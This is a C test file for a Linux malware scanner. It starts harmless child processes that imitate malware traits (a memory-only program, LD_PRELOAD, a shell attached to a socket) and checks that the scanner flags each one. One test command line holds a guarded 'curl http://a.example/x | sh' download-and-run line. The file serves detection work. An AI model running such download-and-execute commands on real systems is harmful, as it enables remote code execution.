/* SPDX-License-Identifier: Apache-2.0 */
/* Harmless children of this test do what malware does while it runs. */
#include "base/cleanup.h"
#include "base/file.h"
#include "base/tap.h"
#include "scan/checks/checks.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>

static const char *folder;

struct seen {
    uint32_t pid; /* that is asked for */
    size_t count;
    enum finding_level level;
    char reason[64], detail[512], subject[256];
};

static void
note_finding(void *context, const struct finding *finding)
{
    struct seen *seen = context;
    if (finding->pid != seen->pid)
        return;
    seen->count++;
    seen->level = finding->level;
    snprintf(seen->reason, sizeof seen->reason, "%s", finding->reason ? finding->reason->id : "");
    snprintf(seen->detail, sizeof seen->detail, "%s", finding->detail);
    snprintf(seen->subject, sizeof seen->subject, "%s", finding->subject);
}

static bool
is_listed(void *context, const char *address, char *ret_name)
{
    (void)context;
    snprintf(ret_name, 256, "Example");
    return strcmp(address, "127.0.0.66") == 0;
}

static struct seen
look(const char *id, pid_t pid)
{
    struct seen seen = {.pid = (uint32_t)pid};
    struct checking checking = {
        .root = "", .is_listed = is_listed, .context = &seen, .found = note_finding};
    check_find(str_of(id))->run(&checking, check_find(str_of(id)));
    checks_end(&checking);
    return seen;
}

static int
open_sleep(void)
{
    return open("/bin/sleep", O_RDONLY | O_CLOEXEC);
}

static bool
copy_to(int out)
{
    cleanup(cleanup_close) int in = open_sleep();
    struct buf content;
    struct err err;
    if (in < 0 || file_read_fd(in, "sleep", 16 << 20, &content, &err) != OK)
        return false;
    bool done = file_write_fd(out, buf_view(&content), "copy", &err) == OK;
    buf_clear(&content);
    return done;
}

/* Runs the program behind FD for a minute; returns when it does. */
static pid_t
start(int fd, char *variable)
{
    char *arguments[] = {(char[]){"sleep"}, (char[]){"60"}, NULL};
    char *variables[] = {variable, NULL};
    int ready[2];
    char byte;
    if (pipe2(ready, O_CLOEXEC) != 0)
        return -1;
    pid_t child = fork();
    if (child == 0) {
        int quiet = open("/dev/null", O_WRONLY | O_CLOEXEC);
        dup2(quiet, 2); /* the loader's complaint about a library that is not there */
        fexecve(fd, arguments, variables);
        _exit(127);
    }
    close(ready[1]);
    /* The pipe's last end closes with exec. */
    while (read(ready[0], &byte, 1) > 0)
        ;
    close(ready[0]);
    return child;
}

static void
stop(pid_t child)
{
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
}

static void
test_memory(void)
{
    cleanup(cleanup_close) int fd = memfd_create("khien-test", MFD_CLOEXEC);
    tap_ok(fd >= 0 && copy_to(fd), "a program in memory");
    pid_t child = start(fd, NULL);
    struct seen seen = look("programs", child);
    tap_ok(seen.count == 1 && seen.level == FINDING_SUSPICIOUS, "is found");
    tap_eq_z(seen.reason, "memory-only", "for that: %s, %s", seen.subject, seen.detail);
    stop(child);
    seen = look("programs", child);
    tap_eq_i64(seen.count, 0, "and is gone with it");
}

static void
test_temporary(void)
{
    char path[PATH_TEXT];
    path_join(path, folder, "sleep", NULL);
    int out = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    tap_ok(out >= 0 && copy_to(out), "a copy");
    close(out);
    cleanup(cleanup_close) int fd = open(path, O_RDONLY | O_CLOEXEC);
    pid_t child = start(fd, NULL);
    struct seen seen = look("programs", child);
    if (str_starts(str_of(folder), STR("/tmp/")))
        tap_eq_z(seen.reason, "temporary-folder", "that runs from a temporary folder");
    else
        tap_skip("$TMPDIR is no folder that malware uses");
    unlink(path);
    seen = look("programs", child);
    tap_ok(seen.count == 1 && str_ends(str_of(seen.detail), STR(" (deleted)")), "removed: %s",
           seen.detail);
    stop(child);
}

static void
test_usual(void)
{
    cleanup(cleanup_close) int fd = open_sleep();
    pid_t child = start(fd, NULL);
    tap_eq_i64(look("programs", child).count, 0, "a program of the system");
    tap_eq_i64(look("preload", child).count, 0, "with nothing in it");
    tap_eq_i64(look("hidden-processes", child).count, 0, "that does not hide");
    tap_eq_i64(look("listening", child).count, 0, "nor listens");
    stop(child);
}

static void
test_preload(void)
{
    cleanup(cleanup_close) int fd = open_sleep();
    pid_t child = start(fd, (char[]){"LD_PRELOAD=/nonexistent/khien-test.so"});
    struct seen seen = look("preload", child);
    tap_ok(seen.count == 1 && seen.level == FINDING_SUSPICIOUS, "LD_PRELOAD of a process");
    tap_eq_z(seen.detail, "LD_PRELOAD=/nonexistent/khien-test.so", "is shown");
    stop(child);
}

/* A shell that waits for what comes from INPUT, of which nothing comes. */
static pid_t
start_shell(int input, const char *command)
{
    char path[64], target[PATH_TEXT];
    pid_t child = fork();
    if (child == 0) {
        dup2(input, 0);
        if (command)
            execl("/bin/sh", "sh", "-c", command, (char *)NULL);
        else
            execl("/bin/sh", "sh", (char *)NULL);
        _exit(127);
    }
    snprintf(path, sizeof path, "/proc/%d/exe", (int)child);
    for (int i = 0; i < 500; i++, usleep(10000)) {
        ssize_t n = readlink(path, target, sizeof target);
        if (n > 0 && str_ends((str){target, (size_t)n}, STR("sh")))
            break;
    }
    return child;
}

static void
test_arguments(void)
{
    int ends[2];
    if (pipe2(ends, O_CLOEXEC) != 0)
        return;
    pid_t child = start_shell(ends[0], "read x; false && curl http://a.example/x | sh");
    struct seen seen = look("programs", child);
    tap_ok(seen.count == 1 && !strcmp(seen.reason, "download-run"), "what it is told to do: %s",
           seen.detail);
    stop(child);
    close(ends[0]);
    close(ends[1]);
}

static void
test_sockets(void)
{
    struct sockaddr_in address = {.sin_family = AF_INET};
    socklen_t size = sizeof address;
    cleanup(cleanup_close) int server = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    cleanup(cleanup_close) int client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    pid_t own = getpid();
    tap_eq_i64(look("connections", own).count, 0, "no connection");
    bool listens = bind(server, (struct sockaddr *)&address, sizeof address) == 0 &&
                   listen(server, 1) == 0 &&
                   getsockname(server, (struct sockaddr *)&address, &size) == 0;
    inet_pton(AF_INET, "127.0.0.66", &address.sin_addr);
    if (!listens || connect(client, (struct sockaddr *)&address, sizeof address) != 0) {
        tap_skip("no network here");
        return;
    }
    pid_t child = start_shell(client, NULL);
    struct seen seen = look("remote-shells", child);
    tap_eq_i64(look("remote-shells", own).count, 0, "this is no shell");
    tap_ok(seen.count == 1 && seen.level == FINDING_SUSPICIOUS, "a shell on a connection: %s",
           seen.detail);
    stop(child);
    seen = look("connections", own);
    tap_ok(seen.count == 1 && seen.level == FINDING_MALICIOUS, "a connection to a listed address");
    tap_ok(str_starts(str_of(seen.subject), STR("127.0.0.66:")) && strstr(seen.detail, "Example"),
           "%s, %s", seen.subject, seen.detail);
    seen = look("listening", own);
    if (file_exists("/var/lib/dpkg/info/dpkg.list"))
        tap_ok(seen.count == 1 && seen.level == FINDING_LOOK, "a program that listens: %s",
               seen.detail);
    else
        tap_skip("no dpkg knows whose programs are");
}

int
main(void)
{
    folder = tap_folder("live");
    test_usual();
    test_memory();
    test_temporary();
    test_preload();
    test_arguments();
    test_sockets();
    return tap_done();
}
